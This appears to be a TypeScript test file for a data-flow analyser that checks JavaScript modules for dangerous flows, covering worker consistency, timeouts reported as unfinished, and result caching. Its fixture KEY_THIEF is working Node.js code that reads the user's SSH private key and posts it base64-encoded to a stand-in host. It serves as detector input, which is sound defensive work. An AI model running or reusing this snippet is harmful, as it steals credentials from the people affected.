import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, test } from 'node:test';
import { digestOf } from '@avow/bytes';
import {
  type FlowJob,
  followData,
  inputOf,
  observeModule,
  parseTask,
  readRules,
} from '@avow/examine';
import { readScript } from '@avow/formats';
import { Pool } from '../pool.ts';
import { FlowFollower } from './follower.ts';

const rules = readRules(readFileSync('rules/update.json', 'utf8'));

const KEY_THIEF = `
const fs = require('fs');
const os = require('os');
const https = require('https');
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
const req = https.request('https://collect.example/');
req.end(Buffer.from(key).toString('base64'));
`;

function jobOf(code: string): FlowJob {
  const bytes = Buffer.from(code);
  const task = { digest: digestOf(bytes), bytes, language: 'js', goal: 'commonjs' } as const;
  const reading = observeModule(task, (text, kind) => readScript(text, kind), rules);
  return {
    modules: [{ path: 'a.js', reading }],
    tasks: new Map([['a.js', task]]),
    resolutions: {},
  };
}

const pool = new Pool(new URL('../child.ts', import.meta.url), { workers: 1 });
after(() => pool.close());

const follower = (limits: { productMs?: number } = {}) =>
  new FlowFollower({ pool, engine: digestOf('engine'), rules: rules.digest, ...limits });

const padded = `${KEY_THIEF}${`// ${'x'.repeat(97)}\n`.repeat(4000)}`;

test('a child finds the same flows as this process does', async () => {
  const job = jobOf(padded);
  const expected = followData(inputOf(job, (task) => parseTask(task)));
  assert.equal(expected.flows.length, 1);
  assert.deepEqual(await follower().follow(job), expected);
});

test('a product that is followed for too long is called unfinished, not clean', async () => {
  const result = await follower({ productMs: 1 }).follow(jobOf(padded));
  assert.deepEqual(result, { flows: [], unfinished: [{ path: 'a.js', reason: 'stopped' }] });
});

test('what was followed once is given from the store, byte for byte', async () => {
  const kept = new Map<string, Uint8Array>();
  let writes = 0;
  const store = {
    read: (keys: Iterable<string>) =>
      new Map([...keys].flatMap((key) => (kept.has(key) ? [[key, kept.get(key)!] as const] : []))),
    write: (readings: Iterable<readonly [string, Uint8Array]>) => {
      writes += 1;
      for (const [key, bytes] of readings) kept.set(key, bytes);
    },
  };
  const options = { pool, engine: digestOf('engine'), rules: rules.digest, store };
  const job = jobOf(KEY_THIEF);
  const fresh = await new FlowFollower(options).follow(job);
  assert.deepEqual(await new FlowFollower(options).follow(job), fresh);
  assert.equal(writes, 1);
});
